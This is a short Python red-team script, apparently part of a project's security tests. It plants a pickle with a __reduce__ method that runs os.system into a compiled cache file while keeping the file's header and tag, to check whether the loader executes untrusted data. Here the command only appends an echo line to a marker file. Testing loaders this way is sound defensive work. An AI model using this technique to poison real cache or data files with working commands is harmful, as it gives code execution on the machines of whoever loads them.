"""Usage: python plant_pickle.py CACHEFILE MARKER -- puts a pickle that runs a command when loaded (it appends a line
to MARKER) into the compiled pack, keeping the real contents and the file's own header and tag (red team #1a)."""

from __future__ import annotations

import os
import pickle
import sys
from pathlib import Path

from omaliref.data.pack_cache import MAGIC, TAG_SIZE

path, marker = sys.argv[1], sys.argv[2]
data = Path(path).read_bytes()
head = len(MAGIC) + TAG_SIZE if data.startswith(MAGIC) else 0
real = pickle.loads(data[head:])  # our own file, read by us: the app must never do this


class Boom:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (os.system, (f"echo planted pickle ran as pid $PPID >> '{marker}'",))


real["x"] = Boom()  # an extra key: a loader that checks only 'key', 'catalog' and 'index' would run it
with open(path, "wb") as out:
    out.write(data[:head] + pickle.dumps(real, protocol=pickle.HIGHEST_PROTOCOL))
print("planted", path)
